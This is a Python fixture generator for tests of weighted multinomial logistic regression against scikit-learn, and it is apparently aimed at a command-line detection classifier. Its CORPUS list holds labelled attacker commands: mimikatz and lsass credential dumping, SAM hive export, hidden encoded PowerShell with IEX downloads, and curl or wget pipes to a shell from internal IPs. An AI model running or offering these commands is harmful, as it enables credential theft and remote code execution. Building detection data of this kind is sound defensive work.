"""Golden fixtures for the weighted multinomial logistic regression tests.

Run with scikit-learn 1.2 (numpy, scipy):  python3 make_fixtures.py
Writes one JSON file per problem next to this script. The C# tests never run Python.

Each file holds X as sorted CSR triples (indptr, indices, data), labels y, sample weights s, C, fit_intercept,
scikit-learn's coef (K, D) and intercept (K), predict_proba (N, K), predict (N), the objective at scikit-learn's
solution computed here with the sums formula

    F(W, b) = C * sum_n s_n * (logsumexp(z_n) - z_n[y_n]) + 0.5 * ||W||^2,   z_n = x_n W^T + b,

and, at a random point theta_probe (layout [w (D,K) row-major | b (K)]), the objective and its gradient
    dF/dW = C X^T S (P - Y) + W,   dF/db = C sum_n s_n (p_n - y_n)
computed independently here in numpy.
"""
import json
import os

import numpy as np
import scipy.sparse as sp
from scipy.special import logsumexp, softmax
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression

HERE = os.path.dirname(os.path.abspath(__file__))


def objective_and_gradient(X, y, s, C, W, b):
    """W: (D, K), b: (K,). Returns F and dF in the [w (D,K) | b] layout (b part only if b is not None)."""
    Z = X @ W + (b if b is not None else 0.0)
    lse = logsumexp(Z, axis=1)
    F = C * np.sum(s * (lse - Z[np.arange(len(y)), y])) + 0.5 * np.sum(W * W)
    P = softmax(Z, axis=1)
    Y = np.zeros_like(P)
    Y[np.arange(len(y)), y] = 1.0
    R = C * s[:, None] * (P - Y)
    dW = X.T @ R + W
    parts = [np.asarray(dW).ravel()]
    if b is not None:
        parts.append(R.sum(axis=0))
    return float(F), np.concatenate(parts)


def write(name, X, y, s, C, fit_intercept, K, seed):
    X = sp.csr_matrix(X, dtype=np.float64)
    X.sort_indices()
    X.eliminate_zeros()
    clf = LogisticRegression(solver="lbfgs", C=C, multi_class="multinomial", max_iter=10000, tol=1e-10,
                             fit_intercept=fit_intercept)
    clf.fit(X, y, sample_weight=s)
    assert list(clf.classes_) == list(range(K)), clf.classes_
    coef, intercept = clf.coef_, (clf.intercept_ if fit_intercept else np.zeros(K))
    if K == 2:
        # With two classes scikit-learn keeps only row 1 of the two-row softmax it fitted: at the penalised optimum the rows
        # are opposite (w0 = -w1, b0 = -b1), and predict_proba is softmax([-z, z]). Store both rows.
        assert coef.shape[0] == 1
        coef, intercept = np.vstack([-coef[0], coef[0]]), np.array([-intercept[0], intercept[0]])
    W = coef.T.copy()                           # (D, K)
    b = intercept.copy() if fit_intercept else None
    F, _ = objective_and_gradient(X, y, s, C, W, b)

    rng = np.random.default_rng(seed)
    Wp = rng.normal(scale=0.5, size=W.shape)
    bp = rng.normal(scale=0.5, size=K) if fit_intercept else None
    Fp, gp = objective_and_gradient(X, y, s, C, Wp, bp)
    theta_probe = np.concatenate([Wp.ravel()] + ([bp] if fit_intercept else []))

    doc = {
        "description": name,
        "sklearn_version": __import__("sklearn").__version__,
        "n_rows": X.shape[0], "n_features": X.shape[1], "n_classes": K,
        "C": C, "fit_intercept": fit_intercept,
        "indptr": X.indptr.tolist(), "indices": X.indices.tolist(), "data": X.data.tolist(),
        "y": [int(v) for v in y], "sample_weight": [float(v) for v in s],
        "coef": coef.tolist(), "intercept": intercept.tolist(),
        "predict_proba": clf.predict_proba(X).tolist(), "predict": [int(v) for v in clf.predict(X)],
        "n_iter": int(clf.n_iter_[0]),
        "objective_at_sklearn": F,
        "theta_probe": theta_probe.tolist(), "objective_at_probe": Fp, "gradient_at_probe": gp.tolist(),
    }
    if K == 2:
        # scikit-learn 1.2's default for two classes (multi_class='auto') is the binomial model, one coefficient row;
        # it equals the two-row softmax at C/2, not at C (see REFERENCE-NOTES).
        binomial = LogisticRegression(solver="lbfgs", C=C, max_iter=10000, tol=1e-10, fit_intercept=fit_intercept)
        binomial.fit(X, y, sample_weight=s)
        doc["binomial_predict_proba"] = binomial.predict_proba(X).tolist()
    with open(os.path.join(HERE, name + ".json"), "w") as fh:
        json.dump(doc, fh)
    print(name, X.shape, "nnz", X.nnz, "iters", doc["n_iter"], "F", F)


def random_tfidf_like(rng, n, d, density):
    """Sparse non-negative rows with L2 norm 1 (every row has at least one entry)."""
    X = sp.random(n, d, density=density, format="lil", random_state=rng.integers(1 << 31), dtype=np.float64)
    for i in range(n):
        if X.rows[i] == []:
            X[i, rng.integers(d)] = rng.uniform(0.1, 1.0)
    X = X.tocsr()
    norms = np.sqrt(np.asarray(X.multiply(X).sum(axis=1))).ravel()
    return sp.diags(1.0 / norms) @ X


def random_problem(seed, n, d, k, C, fit_intercept, name):
    rng = np.random.default_rng(seed)
    X = random_tfidf_like(rng, n, d, 0.25)
    # Labels depend on X through a hidden linear map, so the problem has signal but is not separable.
    Wtrue = rng.normal(scale=3.0, size=(d, k))
    y = np.argmax(X @ Wtrue + rng.gumbel(size=(n, k)), axis=1)
    y[:k] = np.arange(k)                       # every class present
    s = rng.integers(1, 6, size=n).astype(np.float64)
    write(name, X, y, s, C, fit_intercept, k, seed + 1)


CORPUS = [
    # (command line, class, observation count); classes: 0 discovery, 1 powershell execution, 2 credential access, 3 ingress transfer
    ("whoami /all", 0, 12), ("net user administrator /domain", 0, 7), ("ipconfig /all", 0, 20), ("systeminfo", 0, 9),
    ("net group \"domain admins\" /domain", 0, 4), ("uname -a", 0, 15), ("cat /etc/passwd", 2, 6), ("id", 0, 30),
    ("hostname", 0, 11), ("ps aux", 0, 25), ("netstat -ano", 0, 8), ("arp -a", 0, 5), ("tasklist /v", 0, 6),
    ("powershell -nop -w hidden -encodedcommand SQBFAFgA", 1, 3), ("powershell.exe -ExecutionPolicy Bypass -File run.ps1", 1, 5),
    ("powershell -c Get-Process", 1, 9), ("powershell -command \"IEX (New-Object Net.WebClient).DownloadString('x')\"", 1, 2),
    ("pwsh -NoProfile -Command Get-ChildItem C:\\Users", 1, 4), ("powershell -enc JABzAD0A", 1, 6),
    ("powershell Invoke-Expression $payload", 1, 3), ("cmd.exe /c powershell -nop -exec bypass", 1, 2),
    ("mimikatz.exe privilege::debug sekurlsa::logonpasswords", 2, 2), ("reg save HKLM\\SAM C:\\temp\\sam.save", 2, 3),
    ("procdump -ma lsass.exe lsass.dmp", 2, 4), ("cat /etc/shadow", 2, 5), ("reg save hklm\\system system.hiv", 2, 2),
    ("rundll32.exe comsvcs.dll MiniDump 624 C:\\temp\\lsass.dmp full", 2, 1), ("vaultcmd /listcreds:\"Windows Credentials\"", 2, 2),
    ("unshadow /etc/passwd /etc/shadow", 2, 1), ("curl -o /tmp/x 10.0.0.5/x", 3, 8), ("wget 192.168.1.20/payload.sh -O /tmp/p.sh", 3, 6),
    ("certutil -urlcache -split -f 10.1.1.1/a.exe a.exe", 3, 4), ("bitsadmin /transfer job 10.2.2.2/b.exe C:\\b.exe", 3, 2),
    ("scp user@10.0.0.9:/tmp/tool /tmp/tool", 3, 3), ("curl -s 10.9.9.9/install.sh | bash", 3, 5),
    ("powershell Invoke-WebRequest -Uri 10.3.3.3/c.exe -OutFile c.exe", 3, 3), ("tftp -i 10.4.4.4 GET d.exe", 3, 1),
    ("wget -q 172.16.0.1/e -O- | sh", 3, 2), ("net view \\\\fileserver", 0, 3), ("nltest /dclist:corp", 0, 2),
]


def corpus_problem(name, C):
    docs = [c for c, _, _ in CORPUS]
    y = np.array([k for _, k, _ in CORPUS])
    s = np.array([float(w) for _, _, w in CORPUS])
    vec = TfidfVectorizer(token_pattern=r"[A-Za-z_][\w.\-]+|/\w+|--?\w+", lowercase=True, ngram_range=(1, 2))
    X = vec.fit_transform(docs)
    write(name, X, y, s, C, True, 4, 99)


if __name__ == "__main__":
    random_problem(seed=7, n=80, d=15, k=4, C=10.0, fit_intercept=True, name="random_sparse_k4_c10")
    random_problem(seed=11, n=120, d=25, k=5, C=1.0, fit_intercept=False, name="random_sparse_k5_c1_no_intercept")
    corpus_problem("command_lines_tfidf_k4_c10", C=10.0)
    random_problem(seed=13, n=60, d=12, k=2, C=10.0, fit_intercept=True, name="random_sparse_k2_c10")
